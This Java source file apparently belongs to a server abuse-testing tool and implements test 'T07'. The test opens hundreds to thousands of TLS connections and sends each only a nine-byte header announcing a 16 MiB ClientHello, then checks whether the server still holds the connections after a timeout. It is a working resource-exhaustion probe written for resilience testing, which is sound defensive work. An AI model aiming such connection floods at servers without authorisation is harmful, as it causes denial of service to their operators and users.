package io.hawser.abuse.attack;

import io.hawser.abuse.Effort;
import io.hawser.abuse.Target;
import io.hawser.abuse.wire.Link;
import io.hawser.abuse.wire.Links;
import java.time.Duration;
import java.util.HexFormat;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * Nine bytes that announce a ClientHello of 16 MiB, and then nothing.
 *
 * @param allowed how long a server may wait for the rest
 */
record GiantClientHello(Duration allowed) implements Attack {
    /** A handshake record of 16 KiB, in it a ClientHello of 2^24 - 1 bytes (RFC 8446 §4, §5.1). */
    private static final byte[] BEGINNING = HexFormat.of().parseHex("1603014000" + "01ffffff");

    @Override
    public String id() {
        return "T07";
    }

    @Override
    public String title() {
        return "ClientHellos that announce 16 MiB";
    }

    @Override
    public void run(Target target, Effort effort, Findings findings) throws InterruptedException {
        if (target.tlsPort().isEmpty()) {
            return;
        }
        Duration lifetime = allowed.plusSeconds(30);
        try (Links links =
                Links.open(effort.count(500, 5_000), index -> Link.toTlsPort(target, index, lifetime))) {
            AtomicInteger open = new AtomicInteger();
            Duration wait = effort.time(Duration.ofSeconds(1), allowed);
            links.each(link -> {
                link.send(BEGINNING);
                if (!link.ends(wait)) {
                    open.incrementAndGet();
                }
            });
            findings.figure("connections", links.size());
            findings.expect(
                    effort == Effort.SHORT || open.get() == 0,
                    open + " of " + links.size() + " still wait for their ClientHello after " + wait);
        }
    }
}
